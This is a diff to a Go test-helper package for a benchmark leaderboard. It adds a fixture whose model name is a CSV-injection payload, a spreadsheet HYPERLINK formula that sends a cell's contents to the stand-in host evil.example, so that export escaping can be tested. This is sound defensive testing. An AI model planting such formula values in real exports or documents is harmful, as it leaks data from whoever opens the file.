@@ -3,11 +3,13 @@
 package lbtest
 
 import (
+	"context"
 	"crypto/sha256"
 	"encoding/hex"
 	"fmt"
 	"math"
 	"math/rand/v2"
+	"slices"
 	"time"
 
 	"github.com/cortexbench/cortexbench/leaderboard"
@@ -114,4 +116,33 @@ func Synthetic(nModels, nBench, rdmN int, seed uint64) *leaderboard.MemSource {
 		}
 	}
 	return src
+}
+
+// EvilName is a model name a spreadsheet would run as a formula (CSV
+// injection); WithEvilModel gives it to the first synthetic model.
+const EvilName = `=HYPERLINK("http://evil.example/?leak="&A2,"click")`
+
+// WithEvilModel is Synthetic(nModels, nBench, 0, seed) with the first
+// model named EvilName, its family "-cmd", and its first score negative
+// (a legitimate numeric cell that must stay a number in CSV exports).
+func WithEvilModel(nModels, nBench int, seed uint64) *leaderboard.MemSource {
+	src := Synthetic(nModels, nBench, 0, seed)
+	ms, _ := src.Models(context.Background())
+	bs, _ := src.Benchmarks(context.Background())
+	ss, _ := src.Scores(context.Background())
+	ms = slices.Clone(ms)
+	ss = slices.Clone(ss)
+	ms[0].Name, ms[0].Family = EvilName, "-cmd"
+	for i := range ss {
+		if ss[i].ModelHash == ms[0].Hash {
+			ss[i].ModelName = EvilName
+		}
+	}
+	for i := range ss {
+		if ss[i].ModelHash == ms[0].Hash {
+			ss[i].Raw, ss[i].Ceiled = -0.25, -0.25/ss[i].Ceiling
+			break
+		}
+	}
+	return leaderboard.NewMemSource(ms, bs, ss)
 }
